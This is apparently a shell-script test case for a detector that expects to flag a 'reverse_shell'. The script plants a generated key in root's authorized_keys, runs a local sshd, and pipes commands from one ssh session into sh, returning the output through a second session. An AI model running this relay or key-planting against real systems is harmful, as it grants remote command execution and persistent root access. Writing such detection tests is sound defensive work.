# about: commands come and answers go through two ssh sessions of the attacker's host
# expect: reverse_shell medium
# needs: ssh sshd ssh-keygen
mkdir -p /run/sshd /root/.ssh; chmod 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f key; cat key.pub >>/root/.ssh/authorized_keys
ssh-keygen -q -t ed25519 -N '' -f hostkey
/usr/sbin/sshd -D -e -p 5122 -o ListenAddress=127.0.0.1 -h "$PWD/hostkey" -o StrictModes=no -o UsePAM=no >sshd.log 2>&1 & SSHD=$!
sleep 0.7
S="-p 5122 -i key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
mkfifo /tmp/case/typed
(sleep 0.8; echo id; sleep 0.3; echo 'echo $((6*7))-answered'; sleep 0.3; echo exit) >/tmp/case/typed &
timeout 8 sh -c "ssh $S root@127.0.0.1 'cat /tmp/case/typed' </dev/null | sh 2>&1 | ssh $S root@127.0.0.1 'cat >/tmp/case/said'"
kill $SSHD
grep -q 42-answered said
